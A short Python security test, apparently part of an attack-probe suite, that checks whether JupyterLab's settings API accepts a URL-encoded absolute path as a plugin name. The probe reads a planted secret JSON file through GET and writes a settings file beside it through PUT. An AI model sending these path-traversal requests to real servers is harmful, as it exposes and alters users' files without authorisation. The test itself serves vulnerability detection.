"""JupyterLab's settings under a name that leads elsewhere: any JSON file of the server's account, and a file beside it."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

from attack_house import Attacker

CAUSES = {"outside"}


def strike(person: Attacker, mark: Path) -> bool:
    folder = mark.parent / f"{mark.name}-of-the-server"
    folder.mkdir()
    (folder / "secret.json").write_text('{"title": "hunter2"}')
    address = f"/lab/api/settings/{quote(str(folder), safe='')}:secret"
    read, answer = person.request("GET", address)
    written, _ = person.request("PUT", address, {"raw": "{}"})
    assert (read < 300) == (written < 300) == (folder / "secret.jupyterlab-settings").exists(), (read, written)
    return read < 300 and answer["schema"]["title"] == "hunter2"
